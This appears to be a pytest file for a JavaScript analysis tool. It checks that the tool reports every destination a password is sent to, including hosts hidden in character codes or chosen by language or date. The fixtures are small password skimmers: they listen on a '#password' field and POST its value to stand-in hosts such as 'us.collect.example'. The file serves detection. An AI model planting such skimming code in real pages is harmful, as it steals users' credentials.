"""What a run of a script adds to what was read, and that it takes no dormant destination away."""

from __future__ import annotations

import pytest

from undertow.analysis import read_script

HOSTS = """
const codes = [117, 115, 46, 99, 111, 108, 108, 101, 99, 116, 46, 101, 120, 97, 109, 112, 108, 101];
function* letters() { for (const code of codes) yield String.fromCodePoint(code); }
const pick = () => { let text = ''; for (const letter of letters()) text = text + letter; return text; };
"""
SEND = """
document.querySelector('#password').addEventListener('change', (event) => {
  fetch('https://' + base + '/x', {method: 'POST', body: event.target.value});
});
"""


def hosts_of(code: str) -> set[str | None]:
    return {flow.host for flow in read_script(code.encode()).flows if flow.data == "password"}


def test_a_host_that_only_the_run_shows() -> None:
    assert hosts_of(HOSTS + "const base = pick();" + SEND) == {"us.collect.example"}


@pytest.mark.parametrize(
    "choice",
    [
        "let base = pick(); if (navigator.language.startsWith('zh')) base = 'cn.collect.example';",
        "const base = navigator.language.startsWith('zh') ? 'cn.collect.example' : pick();",
    ],
)
def test_a_host_of_other_circumstances_stays_beside_that_of_the_run(choice: str) -> None:
    assert {"cn.collect.example", "us.collect.example"} <= hosts_of(HOSTS + choice + SEND)


def test_what_the_run_does_not_do_stays_as_it_was_read() -> None:
    never = "const base = 'cn.collect.example'; if (new Date().getFullYear() > 2090) {" + SEND + "}"
    assert hosts_of(never) == {"cn.collect.example"}
